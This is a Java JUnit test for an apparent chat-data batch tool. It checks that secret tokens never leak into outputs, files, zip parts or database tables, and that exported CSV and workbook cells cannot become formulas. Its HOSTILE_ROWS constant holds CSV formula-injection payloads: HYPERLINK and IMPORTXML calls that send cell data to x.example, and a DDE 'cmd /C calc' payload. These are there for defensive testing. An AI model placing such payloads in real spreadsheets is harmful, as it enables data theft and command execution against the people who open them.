package com.botbuddy.batch.ops;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.botbuddy.batch.ops.BotbuddyProcess.Result;
import com.botbuddy.batch.ops.ProcessTestSupport.Repo;
import com.botbuddy.batch.report.FormulaGuard;
import com.botbuddy.batch.sandbox.SandboxServer;
import com.botbuddy.batch.sandbox.SandboxSettings;
import com.opencsv.CSVReader;

/**
 * After a full export and a full import against the sandbox, with hostile text in the chats and in the rows:
 * neither token is anywhere (the commands' output, every file under the home, the reports and the import's
 * results, inside every zip part, every value of every table of the job repository), and no cell of any CSV or
 * workbook they wrote can become a formula.
 */
class SecretsAndFormulasScanTest {
    private static final String BOT_TOKEN = "scan-read-token-5e2a91f0";
    private static final String BP_TOKEN = "scan-write-token-c7d034b8";
    /** Spreadsheet rows an attacker prepares: each is rejected, and its text goes into rejected.csv. */
    private static final List<String> HOSTILE_ROWS = List.of(
            "=HYPERLINK(\"http://x.example/?\"&A1),bad status,=1+1",
            "+cmd|' /C calc'!A0,OPEN,@SUM(A1)",
            "-2+3,CLOSED,\"=IMPORTXML(CONCAT(\"\"http://x.example/\"\",A1),\"\"//a\"\")\"");

    @Test
    void afterAFullExportAndImportNeitherTokenIsAnywhereAndNoCellIsAFormula(@TempDir Path dir) throws Exception {
        Path home = dir.resolve("home");
        Path reports = dir.resolve("reports");
        Path results = dir.resolve("import-results");
        SandboxSettings data = SandboxSettings.forTests().withChats(300).withTokens(BOT_TOKEN, BP_TOKEN)
                .withNow(SandboxSettings.startOfTodayUtc());
        List<Result> runs = new ArrayList<>();
        try (SandboxServer api = SandboxServer.start(data)) {
            Map<String, String> env = Map.of("BOTBUDDY_BOT_TOKEN", BOT_TOKEN, "BOTBUDDY_BP_TOKEN", BP_TOKEN);
            Result export = BotbuddyProcess.run(dir.resolve("logs"), "export", env, List.of("export",
                    "--bot-id", data.botId(), "--customer-id", data.customerId(), "--base-url", api.baseUrl(),
                    "--home", home.toString(), "--out", reports.toString(), "--date", LocalDate.now().toString()));
            assertThat(export.exitCode()).as(export.output()).isZero();
            runs.add(export);

            Path chatsCsv = ProcessTestSupport.reportFolder(reports, LocalDate.now()).resolve("chats.csv");
            Path edits = dir.resolve("edits.csv");
            List<String> lines = new ArrayList<>(Files.readAllLines(chatsCsv, StandardCharsets.UTF_8));
            Files.write(edits, lines.subList(0, Math.min(lines.size(), 40)), StandardCharsets.UTF_8);
            Path hostile = dir.resolve("hostile.csv");
            List<String> hostileLines = new ArrayList<>(List.of("uuid,status,name"));
            hostileLines.addAll(HOSTILE_ROWS);
            Files.write(hostile, hostileLines, StandardCharsets.UTF_8);
            for (Path file : List.of(edits, hostile)) {
                Result imported = BotbuddyProcess.run(dir.resolve("logs"), "import-" + file.getFileName(), env,
                        List.of("import", file.toString(), "--bot-id", data.botId(), "--customer-id",
                                data.customerId(), "--base-url", api.baseUrl(), "--home", home.toString(), "--out",
                                results.resolve(file.getFileName().toString()).toString(), "--max-error-rate", "100%"));
                assertThat(imported.exitCode()).as(imported.output()).isIn(0, 5);
                runs.add(imported);
            }
        }
        assertThat(results.resolve("hostile.csv").resolve("rejected.csv")).as("the hostile rows were rejected")
                .exists();

        for (Result run : runs) {
            assertNoToken(run.label() + "'s output", run.stdout() + run.stderr());
        }
        List<Path> files;
        try (Stream<Path> walk = Files.walk(dir)) {
            files = walk.filter(Files::isRegularFile).toList();
        }
        assertThat(files).as("the scan sees the reports, the results and the home's logs")
                .anyMatch(f -> f.getFileName().toString().equals("report.xlsx"))
                .anyMatch(f -> f.getFileName().toString().equals("run.json"))
                .anyMatch(f -> f.getFileName().toString().equals("rejected.csv"))
                .anyMatch(f -> f.startsWith(home.resolve("logs")));
        for (Path file : files) {
            byte[] bytes = Files.readAllBytes(file);
            assertNoToken(dir.relativize(file).toString(), new String(bytes, StandardCharsets.ISO_8859_1));
            assertNoToken(dir.relativize(file) + " as UTF-16", new String(bytes, StandardCharsets.UTF_16LE));
            if (isZip(bytes)) {
                forEachZipPart(bytes, (name, part) -> assertNoToken(file.getFileName() + "!" + name, part));
            }
        }
        int values = scanRepository(Repo.h2(home));
        assertThat(values).as("values read from the repository's tables").isGreaterThan(100);

        int cells = 0;
        for (Path file : files) {
            String name = file.getFileName().toString();
            if (name.endsWith(".csv") && (file.startsWith(reports) || file.startsWith(results))) {
                cells += assertNoCsvFormula(file);
            } else if (name.endsWith(".xlsx")) {
                cells += assertNoWorkbookFormula(file);
            }
        }
        assertThat(cells).as("cells checked").isGreaterThan(1000);
    }

    private static void assertNoToken(String where, String text) {
        assertThat(text).as("no read token in %s", where).doesNotContain(BOT_TOKEN);
        assertThat(text).as("no write token in %s", where).doesNotContain(BP_TOKEN);
    }

    private static boolean isZip(byte[] bytes) {
        return bytes.length > 4 && bytes[0] == 'P' && bytes[1] == 'K' && bytes[2] == 3 && bytes[3] == 4;
    }

    private interface PartScan {
        void scan(String name, String text) throws IOException;
    }

    private static void forEachZipPart(byte[] zip, PartScan scan) throws IOException {
        try (ZipInputStream in = new ZipInputStream(new java.io.ByteArrayInputStream(zip))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                scan.scan(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
    }

    /** Every value of every table the repository holds (Spring Batch's, staging, anything else); their count. */
    private static int scanRepository(Repo repo) throws SQLException, IOException {
        int values = 0;
        try (Connection c = repo.connect()) {
            List<String> tables = new ArrayList<>();
            try (ResultSet rs = c.getMetaData().getTables(null, null, "%", new String[] {"TABLE"})) {
                while (rs.next()) {
                    String schema = rs.getString("TABLE_SCHEM");
                    if (!"INFORMATION_SCHEMA".equalsIgnoreCase(schema)) {
                        tables.add("\"" + schema + "\".\"" + rs.getString("TABLE_NAME") + "\"");
                    }
                }
            }
            assertThat(tables).as("the repository's tables").anyMatch(t -> t.contains("BATCH_JOB_EXECUTION_PARAMS"));
            for (String table : tables) {
                try (Statement s = c.createStatement(); ResultSet rs = s.executeQuery("SELECT * FROM " + table)) {
                    int columns = rs.getMetaData().getColumnCount();
                    while (rs.next()) {
                        for (int i = 1; i <= columns; i++) {
                            String text = text(rs, i);
                            if (text != null) {
                                assertNoToken(table + " column " + rs.getMetaData().getColumnName(i), text);
                                values++;
                            }
                        }
                    }
                }
            }
        }
        return values;
    }

    private static String text(ResultSet rs, int column) throws SQLException, IOException {
        Object value = rs.getObject(column);
        if (value instanceof java.sql.Clob clob) {
            try (Reader r = clob.getCharacterStream()) {
                StringBuilder sb = new StringBuilder();
                char[] buf = new char[8192];
                for (int n = r.read(buf); n >= 0; n = r.read(buf)) {
                    sb.append(buf, 0, n);
                }
                return sb.toString();
            }
        }
        if (value instanceof java.sql.Blob blob) {
            try (InputStream in = blob.getBinaryStream()) {
                return new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
            }
        }
        if (value instanceof byte[] bytes) {
            return new String(bytes, StandardCharsets.ISO_8859_1);
        }
        return value == null ? null : value.toString();
    }

    /** Every cell of a CSV we wrote either starts with no formula trigger or carries the guard; their count. */
    private static int assertNoCsvFormula(Path file) throws Exception {
        int cells = 0;
        try (CSVReader reader = new CSVReader(Files.newBufferedReader(file, StandardCharsets.UTF_8))) {
            for (String[] row = reader.readNext(); row != null; row = reader.readNext()) {
                for (String cell : row) {
                    assertThat(cell.isEmpty() || !FormulaGuard.isTrigger(cell.charAt(0)))
                            .as("%s: the cell %s could become a formula", file.getFileName(), cell).isTrue();
                    cells++;
                }
            }
        }
        return cells;
    }

    private static final Pattern FORMULA = Pattern.compile("<(?:\\w+:)?f[ >/]");
    private static final Pattern CELL = Pattern.compile("<(?:\\w+:)?c[ >]");

    /** No sheet of a workbook holds a formula element; the number of cells its sheets hold. */
    private static int assertNoWorkbookFormula(Path file) throws IOException {
        int[] cells = {0};
        forEachZipPart(Files.readAllBytes(file), (name, part) -> {
            if (name.startsWith("xl/worksheets/") && name.endsWith(".xml")) {
                assertThat(FORMULA.matcher(part).find()).as("%s!%s holds a formula", file.getFileName(), name)
                        .isFalse();
                cells[0] += (int) CELL.matcher(part).results().count();
            }
        });
        return cells[0];
    }
}
